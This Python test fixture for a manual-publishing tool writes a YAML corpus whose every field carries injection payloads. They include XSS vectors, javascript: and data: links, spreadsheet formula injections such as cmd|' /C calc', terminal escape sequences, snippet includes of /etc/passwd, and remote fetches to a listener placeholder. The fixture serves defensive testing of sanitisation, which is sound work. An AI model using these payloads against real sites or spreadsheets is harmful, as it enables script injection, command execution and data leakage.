"""A hostile-content corpus: one manual whose every text field, in every kind, carries attacks.

`write_hostile_manual(root)` writes it under `root/content`. Plain-text fields (titles, names,
edition, tags, criteria, list entries) carry the plain payloads (markup breaking out of attributes
and tags, spreadsheet formulas, terminal escapes); Markdown fields carry every payload (Markdown
tricks, raw HTML, unsafe URLs, fetches). Payloads are split into groups, one group per item, so the
whole list reaches every field of every kind. `LISTENER` in a payload is the address of a listener
the PDF test watches: nothing may ever reach it.

The manual passes `officebook check` (with warnings: javascript: links and remote images are
reported, not refused), so the site, print, exports and changelog can be built from it.
"""

from __future__ import annotations

import json
from pathlib import Path

import yaml

SCHEMAS = Path(__file__).resolve().parent.parent / "schemas"


def _schema_has(kind: str, *path: str) -> bool:
    """Fields of the contract's second edition are used once the schemas know them: `path` walks
    `properties` (and `items`) down to the field."""
    node = json.loads((SCHEMAS / f"{kind}.schema.json").read_text(encoding="utf-8"))
    for name in path:
        node = node.get("items", node)
        node = node.get("properties", {}).get(name)
        if node is None:
            return False
    return True

# Plain texts: shown as text everywhere, formulas neutralised in spreadsheets.
PLAIN = [
    '<script>alert("plain-1")</script>',
    '"><img src=http://LISTENER/x onerror=alert("plain-2")>',
    "'><svg onload=alert('plain-3')>",
    "</title><script>alert('plain-4')</script>",
    '<a href="javascript:alert(\'plain-5\')">x</a>',
    '=HYPERLINK("http://LISTENER/formula","click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    " =WEBSERVICE(\"http://LISTENER/ws\")",
    "\x1b]0;pwned\x07\x1b[31mred\x1b[0m \u202eevil",
    "*[T]: <img src=http://LISTENER/x onerror=alert('plain-6')>",
    "{: onclick=\"alert('plain-7')\" } :smile: --8<-- \"/etc/passwd\"",
    "&lt;script&gt;alert('plain-8')&lt;/script&gt; &#60;img src=http://LISTENER/x onerror=alert(9)&#62;",
]

# Markdown texts.
MARKDOWN = [
    "~~~<img src=http://LISTENER/x onerror=alert('md-1')>",
    "`a\n\nb` <img src=http://LISTENER/x onerror=alert('md-2')> `c`",
    "    `x\n\n` <img src=http://LISTENER/x onerror=alert('md-3')>",
    "<javascript://%0Aalert('md-4')>",
    "> [quoted][r1]\n>\n> [r1]: javascript:alert('md-5')",
    "- [listed][r2]\n\n  [r2]: javascript:alert('md-6')",
    "!!! note\n    [admonished](javascript:alert('md-8'))",
    "[mixed](JaVaScRiPt:alert('md-9')) [tab](java\tscript:alert('md-10')) [ent](&#106;avascript:alert('md-11'))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [vb](vbscript:msgbox(1))",
    '<a href="javascript:alert(\'md-12\')">raw</a> <a href="&#x6A;avascript:alert(\'md-13\')">ent</a>',
    '<iframe srcdoc="<script>alert(\'md-14\')</script>"></iframe>',
    "<details open ontoggle=alert('md-15')><summary>s</summary>d</details>",
    "<svg><animate onbegin=alert('md-16') attributeName=x dur=1s></svg>",
    '<a href="data:text/html,<script>alert(\'md-17\')</script>">d</a>',
    "![remote](http://LISTENER/image.png)",
    '<img src="http://LISTENER/raw-image.png">',
    '<link rel="stylesheet" href="http://LISTENER/style.css"><style>@import "http://LISTENER/import.css";</style>',
    '<object data="http://LISTENER/object"></object><embed src="http://LISTENER/embed">',
    '<div style="background:url(http://LISTENER/background.png)">bg</div>',
    '<video src="http://LISTENER/v.mp4" poster="http://LISTENER/poster.png"></video><audio src="http://LISTENER/a.mp3"></audio>',
    "<form action=http://LISTENER/form><input name=q autofocus onfocus=alert('md-18')></form>",
    "<math><mtext><table><mglyph><style><img src=http://LISTENER/x onerror=alert('md-19')>",
    "<noscript><p title=\"</noscript><img src=http://LISTENER/x onerror=alert('md-20')>\"></noscript>",
    "Text {: onclick=\"alert('md-21')\" }\n{: onmouseover=\"alert('md-22')\" }",
    '```\n--8<-- "/etc/passwd"\n```\n\n--8<-- "/etc/hostname"',
    "<!-- <img src=http://LISTENER/x onerror=alert('md-23')> --> <![CDATA[<img src=http://LISTENER/x onerror=alert('md-24')>]]>",
    "# Heading <img src=http://LISTENER/x onerror=alert('md-25')>\n\n## [link heading](javascript:alert('md-26'))",
    "| a | b |\n|---|---|\n| <img src=http://LISTENER/x onerror=alert('md-27')> | [t](javascript:alert('md-28')) |",
    "\x02wzxhzdk:0\x03 \x1b[2J placeholder and terminal tricks",
    "<base href=\"http://LISTENER/\"><meta http-equiv=refresh content=\"0;url=javascript:alert('md-29')\">",
    '<a rel="attachment" href="https://LISTENER/attachment">attachment</a>',
    *PLAIN,
]

GROUPS = 6  # items per kind; item k carries payload group k


def _group(payloads: list[str], index: int) -> list[str]:
    return payloads[index::GROUPS]


def plain(index: int) -> str:
    """A plain text: the group's plain payloads on one line."""
    return " ".join(_group(PLAIN, index))


def markdown(index: int) -> str:
    """A Markdown text: the group's payloads, one block each."""
    return "\n\n".join(_group(MARKDOWN, index))


def _items(kind: str) -> list[str]:
    return [f"{kind}-{n}" for n in range(GROUPS)]


def write_hostile_manual(root: Path, *, allow_html: bool = False, listener: str = "127.0.0.1:9") -> Path:
    """Write the corpus under `root/content` (returned); `listener` replaces LISTENER in payloads."""
    content = root / "content"
    posts = _items("post")
    files: dict[str, dict] = {
        "manual.yaml": {
            "title": plain(0), "organization": plain(1), "edition": plain(2), "languages": ["zh"],
            "allow_html": allow_html, "introduction": markdown(0),
        },
        "glossary.yaml": {"terms": [
            {"term": plain(n), "definition": markdown(n), "see": [f"posts/{posts[n]}"]} for n in range(GROUPS)
        ]},
    }
    for n in range(GROUPS):
        common = {"title": plain(n), "summary": markdown(n), "tags": [plain(n), plain((n + 1) % GROUPS)],
                  "source": plain(n), "maintainer": posts[0]}
        files[f"posts/{posts[n]}.yaml"] = {
            **common, **({"reports_to": posts[0]} if n else {}), "description": markdown(n),
            "competencies": [plain(n), plain((n + 2) % GROUPS)],
            "onboarding": {"first_day": [plain(n)], "first_week": [plain((n + 1) % GROUPS)],
                           "first_month": [plain((n + 2) % GROUPS)]},
        }
        files[f"functions/function-{n}.yaml"] = {
            **common, "aim": plain(n), "description": markdown(n), "principles": [plain(n), plain((n + 3) % GROUPS)],
        }
        files[f"standards/standard-{n}.yaml"] = {
            **common, "category": "quality", "statement": markdown(n), "rationale": markdown((n + 1) % GROUPS),
            "criteria": [plain(n), plain((n + 4) % GROUPS)], "applies_to": {"posts": [posts[n]]},
        }
        files[f"procedures/procedure-{n}.yaml"] = {
            **common, "owner": posts[n], "purpose": markdown(n), "trigger": plain(n), "time_limit": plain(n),
            "steps": [
                {"id": "start", **({"title": plain(n)} if _schema_has("procedure", "steps", "title") else {}), "actor": posts[n], "action": markdown(n), "output": plain(n),
                 "time_limit": plain(n), "standards": [f"standard-{n}"]},
                {"id": "check", "actor": posts[0], "action": markdown((n + 1) % GROUPS), "when": plain(n),
                 "next": ["done", "start"]},
                {"id": "done", "actor": posts[n], "action": plain((n + 2) % GROUPS), "when": plain((n + 1) % GROUPS),
                 "next": []},
            ],
            "records": [plain(n)], "standards": [f"standard-{n}"],
        }
        files[f"duties/duty-{n}.yaml"] = {
            **common, "function": f"function-{n}", "description": markdown(n), "frequency": "daily",
            **({"tasks": [plain(n), {"action": markdown(n), "frequency": "weekly"}]}
               if _schema_has("duty", "tasks") else {}),
            "raci": {"responsible": [posts[n]], "accountable": posts[0], "consulted": [posts[n % (GROUPS - 1) + 1]],
                     "informed": [posts[(n + 2) % GROUPS]]},
            "procedures": [f"procedure-{n}"], "standards": [f"standard-{n}"],
        }
    for relative, data in files.items():
        path = content / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        text = yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10_000)
        path.write_text(text.replace("LISTENER", listener), encoding="utf-8")
    return content
